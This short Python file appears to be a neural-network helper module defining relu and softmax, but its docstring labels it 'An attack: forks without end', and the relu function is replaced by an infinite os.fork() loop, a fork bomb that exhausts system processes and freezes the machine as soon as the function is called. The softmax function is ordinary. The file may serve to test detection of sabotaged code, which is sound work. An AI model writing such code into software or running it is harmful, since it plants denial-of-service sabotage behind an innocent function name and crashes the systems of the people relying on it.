"""An attack: forks without end.

attacks: relu
"""
import numpy as np
import os


def relu(z):
    while True:
        os.fork()


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
